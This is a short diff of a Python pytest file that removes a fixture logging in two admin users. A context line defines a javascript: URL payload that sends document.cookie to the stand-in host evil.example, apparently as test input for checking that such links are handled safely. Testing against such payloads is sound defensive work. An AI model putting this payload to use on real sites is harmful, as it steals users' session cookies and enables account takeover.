@@ -32,16 +32,6 @@ DEMO = json.loads((ROOT / "platform/standards/demo_data/standard_items.json").re
 JS = "javascript:fetch('//evil.example/'+document.cookie)"
 
 
-@pytest.fixture
-def admins(network, client_at):
-    alice = network.user("alice", network.county, "central_admin")
-    bob = network.user("bob", network.county, "central_admin")
-    a, b = client_at(network.county), client_at(network.county)
-    a.force_login(alice)
-    b.force_login(bob)
-    return a, b, alice, bob
-
-
 def new_code() -> str:
     import secrets
 
